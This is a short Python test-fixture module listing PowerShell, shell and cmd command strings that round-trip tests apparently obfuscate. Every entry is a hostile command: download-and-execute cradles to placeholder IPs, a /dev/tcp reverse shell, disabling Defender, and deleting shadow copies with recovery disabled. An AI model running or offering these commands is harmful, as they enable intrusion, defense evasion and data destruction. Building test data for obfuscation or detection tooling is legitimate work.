"""Commands the round-trip tests obfuscate, one set per language."""

from __future__ import annotations

PS_COMMANDS = (
    "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.10/stage2.ps1')",
    "Start-Process -FilePath \"$env:TEMP\\svc.exe\" -WindowStyle Hidden; Write-Host 'done (ok)'",
    "Set-MpPreference -DisableRealtimeMonitoring $true\nGet-Process | Where-Object { $_.Name -like '*defender*' }",
)
SHELL_COMMANDS = (
    "curl -fsSL http://198.51.100.7/x.sh | bash -s -- --quiet; chmod +x /tmp/.x && /tmp/.x",
    "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
    "wget -q -O- 'http://198.51.100.7/m' | sh && echo \"it's done\"",
)
CMD_COMMANDS = (
    "certutil -urlcache -split -f http://203.0.113.9/a.exe C:\\Users\\Public\\a.exe",
    'powershell -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(\\"http://203.0.113.9/a.ps1\\")"',
    "vssadmin delete shadows /all /quiet & bcdedit /set {default} recoveryenabled no",
)
